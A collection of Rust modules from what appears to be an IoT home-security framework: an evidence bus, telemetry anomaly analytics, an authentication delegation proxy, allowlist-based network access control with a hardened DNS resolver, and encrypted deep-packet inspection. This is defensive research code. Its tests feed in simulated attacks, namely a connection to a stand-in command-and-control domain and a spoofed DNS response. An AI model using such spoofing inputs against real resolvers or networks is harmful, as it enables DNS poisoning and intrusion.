    tx: Sender<Evidence>,
}

impl EvidenceBus {
    /// Creates the bus, returning the shared sender handle and the Core's
    /// drain end.
    pub fn new() -> (EvidenceBus, EvidenceDrain) {
        let (tx, rx) = unbounded();
        (EvidenceBus { tx }, EvidenceDrain { rx })
    }

    /// Reports one observation (never blocks; the channel is unbounded).
    pub fn report(&self, evidence: Evidence) {
        // The receiver lives as long as the Core; a send failure means the
        // Core is gone and the observation has nowhere to go.
        let _ = self.tx.send(evidence);
    }
}

/// The Core's receiving end.
#[derive(Debug)]
pub struct EvidenceDrain {
    rx: Receiver<Evidence>,
}

impl EvidenceDrain {
    /// Moves every pending observation into the store; returns how many
    /// arrived.
    pub fn drain_into(&self, store: &mut EvidenceStore) -> usize {
        let mut n = 0;
        while let Ok(evidence) = self.rx.try_recv() {
            store.push(evidence);
            n += 1;
        }
        n
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{EvidenceKind, Layer};
    use xlf_simnet::SimTime;

    fn ev(device: &str) -> Evidence {
        Evidence::new(
            SimTime::ZERO,
            Layer::Network,
            device,
            EvidenceKind::DpiMatch,
            0.9,
            "test",
        )
    }

    #[test]
    fn reports_from_cloned_handles_all_arrive() {
        let (bus, drain) = EvidenceBus::new();
        let bus2 = bus.clone();
        bus.report(ev("cam"));
        bus2.report(ev("lamp"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 2);
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn drain_is_idempotent_when_empty() {
        let (_bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 0);
        assert_eq!(drain.drain_into(&mut store), 0);
    }

    #[test]
    fn report_after_drain_still_arrives_next_drain() {
        let (bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        bus.report(ev("cam"));
        assert_eq!(drain.drain_into(&mut store), 1);
    }
}
