//! Service-layer security analytics (§IV-C3): "multi-dimensional security
//! analytics that correlate data from multiple domains", including the
//! paper's two worked examples — the thermometer/window policy abuse
//! checked against third-party context (weather), and baseline checks for
//! CPU/keep-alive spikes.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::collections::BTreeMap;
use xlf_analytics::timeseries::SeasonalDetector;
use xlf_simnet::SimTime;

/// Third-party context feed (the "weather report" of §IV-C3).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ContextReading {
    /// Outdoor temperature from the weather service.
    pub outdoor_temp: f64,
}

/// Per-device telemetry analytics.
#[derive(Debug)]
pub struct DataAnalytics {
    /// Seasonal baselines per (device, attribute).
    detectors: BTreeMap<(String, String), SeasonalDetector>,
    /// Phases per day for seasonal models.
    pub period: usize,
    /// Absolute tolerance for seasonal deviations.
    pub tolerance: f64,
    /// Maximum plausible indoor/outdoor divergence before the context
    /// check fires (§IV-C3's heater-attack detector).
    pub context_divergence: f64,
    bus: Option<EvidenceBus>,
}

impl DataAnalytics {
    /// Creates analytics with 24-phase daily seasonality.
    pub fn new() -> Self {
        DataAnalytics {
            detectors: BTreeMap::new(),
            period: 24,
            tolerance: 6.0,
            context_divergence: 25.0,
            bus: None,
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Feeds one telemetry sample; returns whether it was anomalous
    /// against the seasonal baseline. The phase is the hour of the
    /// simulated day, so arbitrary sampling rates share one baseline.
    pub fn observe(&mut self, device: &str, attribute: &str, value: f64, now: SimTime) -> bool {
        let key = (device.to_string(), attribute.to_string());
        let period = self.period;
        let tolerance = self.tolerance;
        let detector = self
            .detectors
            .entry(key)
            .or_insert_with(|| SeasonalDetector::new(period, tolerance));
        let hours_elapsed = now.as_micros() / 3_600_000_000;
        let phase = (hours_elapsed % period as u64) as usize;
        // Arm after two full simulated days.
        while detector.completed_periods() < hours_elapsed / period as u64 {
            detector.complete_period();
        }
        let anomalous = detector.observe_phase(phase, value);
        if anomalous {
            if let Some(bus) = &self.bus {
                bus.report(Evidence::new(
                    now,
                    Layer::Service,
                    device,
                    EvidenceKind::TelemetryAnomaly,
                    0.7,
                    &format!("{attribute}={value:.1} deviates from seasonal baseline"),
                ));
            }
        }
        anomalous
    }

    /// The §IV-C3 context check: an indoor reading wildly diverging from
    /// the outdoor context suggests local environment manipulation (the
    /// attacker's space heater under the thermostat).
    pub fn context_check(
        &mut self,
        device: &str,
        indoor_temp: f64,
        context: ContextReading,
        now: SimTime,
    ) -> bool {
        let diverges = (indoor_temp - context.outdoor_temp).abs() > self.context_divergence;
        if diverges {
            if let Some(bus) = &self.bus {
                bus.report(Evidence::new(
                    now,
                    Layer::Service,
                    device,
                    EvidenceKind::TelemetryAnomaly,
                    0.6,
                    &format!(
                        "indoor {indoor_temp:.1}°F vs outdoor {:.1}°F — possible environment manipulation",
                        context.outdoor_temp
                    ),
                ));
            }
        }
        diverges
    }

    /// Devices with learned baselines.
    pub fn tracked(&self) -> usize {
        self.detectors.len()
    }
}

impl Default for DataAnalytics {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn diurnal(h: usize) -> f64 {
        70.0 + 8.0 * ((h as f64) * std::f64::consts::TAU / 24.0).sin()
    }

    #[test]
    fn seasonal_baseline_learns_and_detects() {
        let mut analytics = DataAnalytics::new();
        // Three clean days.
        for day in 0..3 {
            for h in 0..24 {
                let anomalous = analytics.observe(
                    "thermostat",
                    "temperature",
                    diurnal(h),
                    SimTime::from_secs((day * 24 + h as u64) * 3600),
                );
                assert!(!anomalous, "false alarm day {day} hour {h}");
            }
        }
        // Day 4: heater attack at 3 AM.
        for h in 0..24usize {
            let value = if h == 3 {
                diurnal(h) + 18.0
            } else {
                diurnal(h)
            };
            let at = SimTime::from_secs((3 * 24 + h as u64) * 3600);
            let anomalous = analytics.observe("thermostat", "temperature", value, at);
            assert_eq!(anomalous, h == 3, "hour {h}");
        }
    }

    #[test]
    fn context_check_fires_on_divergence() {
        let (bus, drain) = EvidenceBus::new();
        let mut analytics = DataAnalytics::new().with_bus(bus);
        // Indoor 95°F while it is 30°F outside and the furnace is off →
        // 65° divergence > 25° tolerance.
        assert!(analytics.context_check(
            "thermostat",
            95.0,
            ContextReading { outdoor_temp: 30.0 },
            SimTime::ZERO
        ));
        // Indoor 72°F on a 60°F day: plausible.
        assert!(!analytics.context_check(
            "thermostat",
            72.0,
            ContextReading { outdoor_temp: 60.0 },
            SimTime::ZERO
        ));
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.len(), 1);
    }

    #[test]
    fn detectors_are_per_device_attribute() {
        let mut analytics = DataAnalytics::new();
        analytics.observe("a", "temperature", 70.0, SimTime::ZERO);
        analytics.observe("a", "power", 120.0, SimTime::ZERO);
        analytics.observe("b", "temperature", 70.0, SimTime::ZERO);
        assert_eq!(analytics.tracked(), 3);
    }
}
