//! Authentication delegation (§IV-A1).
//!
//! The paper critiques the Barreto et al. cloud-centric model ("does not
//! scale to deal with a large number of users with multiple devices. It
//! also increases the latency") and proposes delegating authentication to
//! a proxy with "multiple access channels … and more computation power
//! and memory resources than the IoT devices", which must perform:
//! (i) caching of SSO tokens from the cloud provider, (ii) SSO
//! authentication and timestamp validation, and (iii) raw-data processing
//! for low-privileged users. LAN requests authenticate at the proxy; WAN
//! requests go to the cloud with SSO+MFA; the XLF Core sets token
//! lifetimes from correlation results.
//!
//! Both the baseline ([`CloudOnlyAuth`]) and the proxy
//! ([`DelegationProxy`]) are driven by the same request stream in E-M1 to
//! compare latency and cloud load.

use std::collections::BTreeMap;
use xlf_cloud::oauth::{Token, TokenService};
use xlf_simnet::{Duration, SimTime};

/// Where the request enters the home.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AccessOrigin {
    /// From inside the home network.
    Lan,
    /// From the Internet.
    Wan,
}

/// Barreto-style privilege tiers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PrivilegeTier {
    /// Reads processed data only.
    Basic,
    /// May update firmware / change configuration.
    Advanced,
}

/// One authentication request.
#[derive(Debug, Clone)]
pub struct AuthRequest {
    /// Requesting user.
    pub user: String,
    /// Target device.
    pub device: String,
    /// Entry point.
    pub origin: AccessOrigin,
    /// Privilege tier sought.
    pub tier: PrivilegeTier,
}

/// Latency model for the paths a request can take.
#[derive(Debug, Clone)]
pub struct LatencyModel {
    /// Round trip within the LAN.
    pub lan_rtt: Duration,
    /// Round trip to the cloud.
    pub wan_rtt: Duration,
    /// Cloud-side processing per validation.
    pub cloud_processing: Duration,
    /// Proxy-side processing per validation.
    pub proxy_processing: Duration,
    /// User interaction cost of an MFA challenge.
    pub mfa_challenge: Duration,
}

impl Default for LatencyModel {
    fn default() -> Self {
        LatencyModel {
            lan_rtt: Duration::from_millis(2),
            wan_rtt: Duration::from_millis(40),
            cloud_processing: Duration::from_millis(5),
            proxy_processing: Duration::from_millis(1),
            mfa_challenge: Duration::from_millis(1500),
        }
    }
}

/// Outcome of one authentication.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuthResult {
    /// Whether access was granted.
    pub granted: bool,
    /// End-to-end latency experienced by the requester.
    pub latency: Duration,
    /// Whether the cloud had to be contacted.
    pub hit_cloud: bool,
}

/// The Barreto-style baseline: every request round-trips to the cloud;
/// advanced users are additionally redirected to the device for SSO.
#[derive(Debug)]
pub struct CloudOnlyAuth {
    tokens: TokenService,
    latency: LatencyModel,
    /// Cloud validations performed (the scalability metric).
    pub cloud_validations: u64,
    session_lifetime: Duration,
    sessions: BTreeMap<String, Token>,
}

impl CloudOnlyAuth {
    /// Creates the baseline with the given latency model.
    pub fn new(latency: LatencyModel) -> Self {
        CloudOnlyAuth {
            tokens: TokenService::new(),
            latency,
            cloud_validations: 0,
            session_lifetime: Duration::from_secs(3600),
            sessions: BTreeMap::new(),
        }
    }

    /// Authenticates one request.
    pub fn authenticate(&mut self, request: &AuthRequest, now: SimTime) -> AuthResult {
        // Every request validates at the cloud.
        self.cloud_validations += 1;
        let mut latency = self.latency.wan_rtt + self.latency.cloud_processing;
        let session_value = self.sessions.get(&request.user).map(|t| t.value.clone());
        let session_valid = session_value
            .map(|v| self.tokens.validate(&v, "auth", now).is_ok())
            .unwrap_or(false);
        if !session_valid {
            // Fresh login: issue, and for advanced users redirect to the
            // device for the SSO handshake (a second WAN leg in Barreto's
            // design) plus MFA.
            let token =
                self.tokens
                    .issue(&request.user, &["auth"], now, self.session_lifetime, true);
            self.sessions.insert(request.user.clone(), token);
            latency += self.latency.mfa_challenge;
            if request.tier == PrivilegeTier::Advanced {
                latency += self.latency.wan_rtt;
            }
        }
        AuthResult {
            granted: true,
            latency,
            hit_cloud: true,
        }
    }
}

/// The XLF delegation proxy.
#[derive(Debug)]
pub struct DelegationProxy {
    cloud_tokens: TokenService,
    latency: LatencyModel,
    /// SSO token cache for LAN requests: user → token.
    cache: BTreeMap<String, Token>,
    /// Cloud-side SSO sessions for WAN requests: user → token (sign-on
    /// once, then token validation only — no repeated MFA).
    wan_sessions: BTreeMap<String, Token>,
    /// Token lifetime, set by the XLF Core from correlation results.
    pub token_lifetime: Duration,
    /// Cloud validations incurred (cache misses / WAN requests).
    pub cloud_validations: u64,
    /// Proxy validations served locally.
    pub proxy_validations: u64,
}

impl DelegationProxy {
    /// Creates a proxy with the default 1-hour token lifetime.
    pub fn new(latency: LatencyModel) -> Self {
        DelegationProxy {
            cloud_tokens: TokenService::new(),
            latency,
            cache: BTreeMap::new(),
            wan_sessions: BTreeMap::new(),
            token_lifetime: Duration::from_secs(3600),
            cloud_validations: 0,
            proxy_validations: 0,
        }
    }

    /// The XLF Core shortens lifetimes when suspicion rises ("the XLF Core
    /// determines the lifetime of the authentication tokens based on the
    /// correlation results").
    pub fn set_token_lifetime(&mut self, lifetime: Duration) {
        self.token_lifetime = lifetime;
    }

    /// Authenticates one request.
    pub fn authenticate(&mut self, request: &AuthRequest, now: SimTime) -> AuthResult {
        match request.origin {
            AccessOrigin::Lan => {
                // (i)/(ii): serve from the SSO cache when fresh.
                let cached_valid = self
                    .cache
                    .get(&request.user)
                    .map(|t| t.allows("auth", now))
                    .unwrap_or(false);
                if cached_valid {
                    self.proxy_validations += 1;
                    return AuthResult {
                        granted: true,
                        latency: self.latency.lan_rtt + self.latency.proxy_processing,
                        hit_cloud: false,
                    };
                }
                // Cache miss: fetch an SSO token from the cloud once, then
                // serve locally until it expires.
                self.cloud_validations += 1;
                let token = self.cloud_tokens.issue(
                    &request.user,
                    &["auth"],
                    now,
                    self.token_lifetime,
                    true,
                );
                self.cache.insert(request.user.clone(), token);
                AuthResult {
                    granted: true,
                    latency: self.latency.lan_rtt
                        + self.latency.wan_rtt
                        + self.latency.cloud_processing,
                    hit_cloud: true,
                }
            }
            AccessOrigin::Wan => {
                // WAN requests always validate at the cloud; the SSO+MFA
                // challenge happens once per session, after which the SSO
                // token alone suffices ("use the same authentication token
                // to access other services").
                self.cloud_validations += 1;
                let mut latency = self.latency.wan_rtt + self.latency.cloud_processing;
                let session_fresh = self
                    .wan_sessions
                    .get(&request.user)
                    .map(|t| t.allows("auth", now))
                    .unwrap_or(false);
                if !session_fresh {
                    if request.tier == PrivilegeTier::Advanced {
                        latency += self.latency.mfa_challenge;
                    }
                    let token = self.cloud_tokens.issue(
                        &request.user,
                        &["auth"],
                        now,
                        self.token_lifetime,
                        true,
                    );
                    self.wan_sessions.insert(request.user.clone(), token);
                }
                AuthResult {
                    granted: true,
                    latency,
                    hit_cloud: true,
                }
            }
        }
    }

    /// Flushes the SSO cache (e.g. after the Core revokes a subject).
    pub fn revoke(&mut self, user: &str) -> bool {
        self.cache.remove(user).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lan_basic(user: &str) -> AuthRequest {
        AuthRequest {
            user: user.to_string(),
            device: "lamp".to_string(),
            origin: AccessOrigin::Lan,
            tier: PrivilegeTier::Basic,
        }
    }

    #[test]
    fn proxy_serves_repeat_lan_requests_locally() {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        let first = proxy.authenticate(&lan_basic("alice"), SimTime::ZERO);
        assert!(first.hit_cloud);
        for i in 1..10 {
            let r = proxy.authenticate(&lan_basic("alice"), SimTime::from_secs(i));
            assert!(!r.hit_cloud, "request {i} should be cache-served");
            assert!(r.latency < first.latency);
        }
        assert_eq!(proxy.cloud_validations, 1);
        assert_eq!(proxy.proxy_validations, 9);
    }

    #[test]
    fn baseline_hits_the_cloud_every_time() {
        let mut baseline = CloudOnlyAuth::new(LatencyModel::default());
        for i in 0..10 {
            let r = baseline.authenticate(&lan_basic("alice"), SimTime::from_secs(i));
            assert!(r.hit_cloud);
        }
        assert_eq!(baseline.cloud_validations, 10);
    }

    #[test]
    fn proxy_latency_beats_baseline_for_lan_traffic() {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        let mut baseline = CloudOnlyAuth::new(LatencyModel::default());
        let mut proxy_total = Duration::ZERO;
        let mut baseline_total = Duration::ZERO;
        for i in 0..50 {
            proxy_total += proxy
                .authenticate(&lan_basic("alice"), SimTime::from_secs(i))
                .latency;
            baseline_total += baseline
                .authenticate(&lan_basic("alice"), SimTime::from_secs(i))
                .latency;
        }
        assert!(
            proxy_total.as_micros() * 3 < baseline_total.as_micros(),
            "proxy {proxy_total} vs baseline {baseline_total}"
        );
    }

    #[test]
    fn expired_tokens_force_cloud_refresh() {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        proxy.set_token_lifetime(Duration::from_secs(10));
        proxy.authenticate(&lan_basic("alice"), SimTime::ZERO);
        let late = proxy.authenticate(&lan_basic("alice"), SimTime::from_secs(11));
        assert!(late.hit_cloud);
        assert_eq!(proxy.cloud_validations, 2);
    }

    #[test]
    fn wan_advanced_first_signon_pays_for_mfa_once() {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        let advanced = |user: &str| AuthRequest {
            user: user.into(),
            device: "cam".into(),
            origin: AccessOrigin::Wan,
            tier: PrivilegeTier::Advanced,
        };
        let first = proxy.authenticate(&advanced("bob"), SimTime::ZERO);
        let second = proxy.authenticate(&advanced("bob"), SimTime::from_secs(10));
        // SSO: the MFA challenge happens once per session, not per request.
        assert!(first.latency > second.latency);
        assert!(first.hit_cloud && second.hit_cloud);
    }

    #[test]
    fn revocation_clears_the_cache() {
        let mut proxy = DelegationProxy::new(LatencyModel::default());
        proxy.authenticate(&lan_basic("alice"), SimTime::ZERO);
        assert!(proxy.revoke("alice"));
        let after = proxy.authenticate(&lan_basic("alice"), SimTime::from_secs(1));
        assert!(
            after.hit_cloud,
            "revoked user must re-authenticate at the cloud"
        );
    }
}
