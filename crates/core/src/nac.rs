//! Constrained access (§IV-A3): "network access requests are either
//! accepted or denied based on a pre-determined set of parameters and
//! policies", with DNS as the linchpin — devices resolve only allowlisted
//! names through the gateway's hardened resolver.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::collections::{BTreeMap, BTreeSet};
use xlf_protocols::dns::{DnsRecord, RecordType, ResolveOutcome, Resolver, ResolverConfig};
use xlf_simnet::{NodeId, SimTime};

/// Decision on a connection attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AccessDecision {
    /// Allowed by policy.
    Allow,
    /// Destination not in the device's allowlist.
    BlockedDestination,
    /// Device is quarantined.
    BlockedQuarantine,
}

/// The gateway's network-access-control table.
#[derive(Debug)]
pub struct Nac {
    /// device → allowed destination names.
    allowlists: BTreeMap<String, BTreeSet<String>>,
    /// device → allowed raw node destinations (resolved addresses).
    allowed_nodes: BTreeMap<String, BTreeSet<NodeId>>,
    quarantined: BTreeSet<String>,
    /// The gateway's hardened resolver (txid + DNSSEC).
    pub resolver: Resolver,
    bus: Option<EvidenceBus>,
    /// Decisions made, for reporting: (allowed, blocked).
    pub decisions: (u64, u64),
}

impl Default for Nac {
    fn default() -> Self {
        Self::new()
    }
}

impl Nac {
    /// Creates a NAC with a hardened resolver.
    pub fn new() -> Self {
        Nac {
            allowlists: BTreeMap::new(),
            allowed_nodes: BTreeMap::new(),
            quarantined: BTreeSet::new(),
            resolver: Resolver::new(ResolverConfig::hardened()),
            bus: None,
            decisions: (0, 0),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Permits `device` to contact `name` (e.g. its vendor cloud).
    pub fn allow_destination(&mut self, device: &str, name: &str) {
        self.allowlists
            .entry(device.to_string())
            .or_default()
            .insert(name.to_string());
    }

    /// Permits `device` to contact a resolved node address.
    pub fn allow_node(&mut self, device: &str, node: NodeId) {
        self.allowed_nodes
            .entry(device.to_string())
            .or_default()
            .insert(node);
    }

    /// Quarantines a device (all traffic blocked).
    pub fn quarantine(&mut self, device: &str) {
        self.quarantined.insert(device.to_string());
    }

    /// Releases a quarantine.
    pub fn release(&mut self, device: &str) {
        self.quarantined.remove(device);
    }

    /// Whether a device is quarantined.
    pub fn is_quarantined(&self, device: &str) -> bool {
        self.quarantined.contains(device)
    }

    /// Checks a connection attempt to a named destination.
    pub fn check_destination(&mut self, device: &str, name: &str, now: SimTime) -> AccessDecision {
        if self.quarantined.contains(device) {
            // Quarantine drops are the Core's own response, not fresh
            // observations — reporting them would self-reinforce verdicts.
            self.decisions.1 += 1;
            let _ = now;
            return AccessDecision::BlockedQuarantine;
        }
        let allowed = self
            .allowlists
            .get(device)
            .map(|set| set.contains(name))
            .unwrap_or(false);
        if allowed {
            self.decisions.0 += 1;
            AccessDecision::Allow
        } else {
            self.decisions.1 += 1;
            self.report_block(device, &format!("destination {name} not allowlisted"), now);
            AccessDecision::BlockedDestination
        }
    }

    /// Checks a connection attempt to a raw node address.
    pub fn check_node(&mut self, device: &str, node: NodeId, now: SimTime) -> AccessDecision {
        if self.quarantined.contains(device) {
            self.decisions.1 += 1;
            let _ = now;
            return AccessDecision::BlockedQuarantine;
        }
        let allowed = self
            .allowed_nodes
            .get(device)
            .map(|set| set.contains(&node))
            .unwrap_or(false);
        if allowed {
            self.decisions.0 += 1;
            AccessDecision::Allow
        } else {
            self.decisions.1 += 1;
            self.report_block(device, &format!("node {node} not allowlisted"), now);
            AccessDecision::BlockedDestination
        }
    }

    /// Resolves a name on behalf of a device through the hardened
    /// resolver; blocked destinations never even resolve.
    pub fn resolve_for(
        &mut self,
        device: &str,
        name: &str,
        response: (DnsRecord, u16),
        now: SimTime,
    ) -> Result<DnsRecord, AccessDecision> {
        match self.check_destination(device, name, now) {
            AccessDecision::Allow => {}
            blocked => return Err(blocked),
        }
        let _txid = self.resolver.start_query(name, RecordType::A);
        // The caller supplies the (possibly attacker-injected) response;
        // the hardened resolver decides.
        let accepted_record = response.0.clone();
        let outcome = self.resolver.handle_response(response.0, response.1, now);
        match outcome {
            // Prefer the cache entry; a zero-TTL record can be accepted
            // yet already expired, in which case the validated response
            // itself is the answer (no panic on a cold cache).
            ResolveOutcome::Accepted => Ok(self
                .resolver
                .cached(name, RecordType::A, now)
                .cloned()
                .unwrap_or(accepted_record)),
            _ => {
                if let Some(bus) = &self.bus {
                    bus.report(Evidence::new(
                        now,
                        Layer::Network,
                        device,
                        EvidenceKind::DnsBlocked,
                        0.7,
                        &format!("DNS response for {name} rejected: {outcome:?}"),
                    ));
                }
                Err(AccessDecision::BlockedDestination)
            }
        }
    }

    fn report_block(&self, device: &str, detail: &str, now: SimTime) {
        if let Some(bus) = &self.bus {
            bus.report(Evidence::new(
                now,
                Layer::Network,
                device,
                EvidenceKind::DestinationBlocked,
                0.5,
                detail,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    #[test]
    fn allowlisted_destinations_pass() {
        let mut nac = Nac::new();
        nac.allow_destination("cam", "stream.vendor.example");
        assert_eq!(
            nac.check_destination("cam", "stream.vendor.example", SimTime::ZERO),
            AccessDecision::Allow
        );
        assert_eq!(
            nac.check_destination("cam", "cnc.evil", SimTime::ZERO),
            AccessDecision::BlockedDestination
        );
        assert_eq!(nac.decisions, (1, 1));
    }

    #[test]
    fn quarantine_blocks_everything() {
        let mut nac = Nac::new();
        nac.allow_destination("cam", "stream.vendor.example");
        nac.quarantine("cam");
        assert_eq!(
            nac.check_destination("cam", "stream.vendor.example", SimTime::ZERO),
            AccessDecision::BlockedQuarantine
        );
        nac.release("cam");
        assert_eq!(
            nac.check_destination("cam", "stream.vendor.example", SimTime::ZERO),
            AccessDecision::Allow
        );
    }

    #[test]
    fn node_level_checks() {
        let mut nac = Nac::new();
        let cloud = NodeId::from_raw(9);
        let victim = NodeId::from_raw(5);
        nac.allow_node("cam", cloud);
        assert_eq!(
            nac.check_node("cam", cloud, SimTime::ZERO),
            AccessDecision::Allow
        );
        assert_eq!(
            nac.check_node("cam", victim, SimTime::ZERO),
            AccessDecision::BlockedDestination
        );
    }

    #[test]
    fn blocks_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut nac = Nac::new().with_bus(bus);
        nac.check_destination("cam", "cnc.evil", SimTime::ZERO);
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.len(), 1);
        assert_eq!(store.all()[0].kind, EvidenceKind::DestinationBlocked);
    }

    #[test]
    fn hardened_resolution_rejects_spoofed_records_with_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut nac = Nac::new().with_bus(bus);
        nac.allow_destination("cam", "hub.vendor.example");
        nac.resolver
            .add_trust_anchor("vendor.example", b"zone secret");

        // A spoofed, unsigned record with a guessed txid.
        let spoof = DnsRecord::new("hub.vendor.example", RecordType::A, "n666", 300);
        let result = nac.resolve_for("cam", "hub.vendor.example", (spoof, 0xBEEF), SimTime::ZERO);
        assert!(result.is_err());
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert!(store
            .all()
            .iter()
            .any(|e| e.kind == EvidenceKind::DnsBlocked));
    }

    #[test]
    fn legitimate_signed_resolution_succeeds() {
        let mut nac = Nac::new();
        nac.allow_destination("cam", "hub.vendor.example");
        nac.resolver
            .add_trust_anchor("vendor.example", b"zone secret");
        let record =
            DnsRecord::new("hub.vendor.example", RecordType::A, "n3", 300).sign(b"zone secret");
        // The resolver requires the txid it generated; mirror it by
        // peeking: start_query is called inside resolve_for, and txids
        // count up from 1 in a fresh resolver.
        let result = nac.resolve_for("cam", "hub.vendor.example", (record, 1), SimTime::ZERO);
        assert_eq!(result.unwrap().value, "n3");
    }
}
