//! Encrypted deep-packet inspection (§IV-B2): keyword rules from IoT
//! malware signatures are matched against traffic "similar to BlindBox",
//! preserving end-to-end encryption. The middlebox receives only
//! PRF-encrypted tokens; a plaintext DPI engine is included as the
//! baseline (and as the model of the certificate-injection middlebox the
//! paper rejects).
//!
//! # Fast path
//!
//! Both engines originally scanned the payload once per rule —
//! O(rules × payload) — which collapses at realistic signature-set sizes
//! (hundreds of C&C keywords). The hot paths are now single-pass:
//!
//! * [`PlaintextDpi`] compiles its keywords into an Aho–Corasick
//!   automaton ([`xlf_analytics::AcAutomaton`]) once at construction and
//!   walks each payload exactly once, O(payload + matches).
//! * [`EncryptedDpi`] indexes per-session rule tokens in a
//!   [`TokenIndex`] keyed by each rule's first window token and walks the
//!   traffic token stream once, O(traffic tokens + candidate checks).
//!
//! The naive per-rule scans are kept behind [`PlaintextDpi::inspect_naive`]
//! and [`EncryptedDpi::with_naive_matching`] for A/B measurement; the
//! bench harness and property tests assert the engines agree exactly.

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use std::sync::Arc;
use xlf_analytics::AcAutomaton;
use xlf_lwcrypto::searchable::{match_rule, Token, TokenIndex, Tokenizer};
use xlf_lwcrypto::CryptoError;
use xlf_simnet::SimTime;

/// One detection rule (keyword + name), following the signature-generation
/// shape of Alhanahnah et al. ("one or more keywords to be matched in the
/// traffic").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Rule identifier.
    pub name: String,
    /// Keyword bytes to match.
    pub keyword: Vec<u8>,
}

/// A rule match. The rule name is a shared interned string so reporting a
/// match never copies the name bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DpiMatch {
    /// The matching rule's name.
    pub rule: Arc<str>,
    /// Token/byte offset of the first match.
    pub offset: usize,
}

/// Inspection counters for a DPI engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DpiStats {
    /// Token streams inspected.
    pub streams_inspected: u64,
    /// Streams with at least one rule match.
    pub matches: u64,
}

fn intern_names(rules: &[Rule]) -> Vec<Arc<str>> {
    rules.iter().map(|r| Arc::from(r.name.as_str())).collect()
}

fn matches_from_firsts(names: &[Arc<str>], firsts: &[Option<usize>]) -> Vec<DpiMatch> {
    firsts
        .iter()
        .enumerate()
        .filter_map(|(id, first)| {
            first.map(|offset| DpiMatch {
                rule: names[id].clone(),
                offset,
            })
        })
        .collect()
}

/// Plaintext DPI baseline: byte-level keyword matching via a single-pass
/// Aho–Corasick automaton compiled once from the rule set.
#[derive(Debug)]
pub struct PlaintextDpi {
    rules: Vec<Rule>,
    names: Vec<Arc<str>>,
    automaton: AcAutomaton,
}

impl Default for PlaintextDpi {
    fn default() -> Self {
        PlaintextDpi::new(Vec::new())
    }
}

impl PlaintextDpi {
    /// Creates an engine with the given rules, compiling the automaton.
    pub fn new(rules: Vec<Rule>) -> Self {
        let names = intern_names(&rules);
        let automaton = AcAutomaton::build(rules.iter().map(|r| r.keyword.as_slice()));
        PlaintextDpi {
            rules,
            names,
            automaton,
        }
    }

    /// The compiled rule set.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Scans a plaintext payload in one automaton pass.
    pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
        matches_from_firsts(&self.names, &self.automaton.find_first_per_pattern(payload))
    }

    /// Scans a batch of payloads, reusing the per-pattern scratch buffer
    /// across payloads.
    pub fn inspect_batch(&self, payloads: &[&[u8]]) -> Vec<Vec<DpiMatch>> {
        let mut scratch = Vec::new();
        payloads
            .iter()
            .map(|payload| {
                self.automaton
                    .find_first_per_pattern_into(payload, &mut scratch);
                matches_from_firsts(&self.names, &scratch)
            })
            .collect()
    }

    /// The original per-rule window scan, O(rules × payload). Kept for
    /// A/B benchmarking and as the equivalence oracle in property tests.
    pub fn inspect_naive(&self, payload: &[u8]) -> Vec<DpiMatch> {
        let mut out = Vec::new();
        for (id, rule) in self.rules.iter().enumerate() {
            if rule.keyword.is_empty() {
                continue;
            }
            if let Some(offset) = payload
                .windows(rule.keyword.len())
                .position(|w| w == rule.keyword)
            {
                out.push(DpiMatch {
                    rule: self.names[id].clone(),
                    offset,
                });
            }
        }
        out
    }
}

/// The encrypted middlebox: holds rule *tokens* for each session and
/// matches them against traffic token streams. It never sees plaintext.
pub struct EncryptedDpi {
    rules: Vec<Rule>,
    names: Vec<Arc<str>>,
    /// Per-session compiled rule token sequences (rule order).
    compiled: Vec<Vec<Token>>,
    /// Single-pass index over `compiled` (rebuilt on each session bind).
    index: TokenIndex,
    /// When set, match via the per-rule naive scan instead of the index.
    naive: bool,
    bus: Option<EvidenceBus>,
    /// Inspection counters.
    pub stats: DpiStats,
}

impl std::fmt::Debug for EncryptedDpi {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EncryptedDpi")
            .field("rules", &self.rules.len())
            .field("naive", &self.naive)
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl EncryptedDpi {
    /// Creates the middlebox with a rule set (not yet bound to a session).
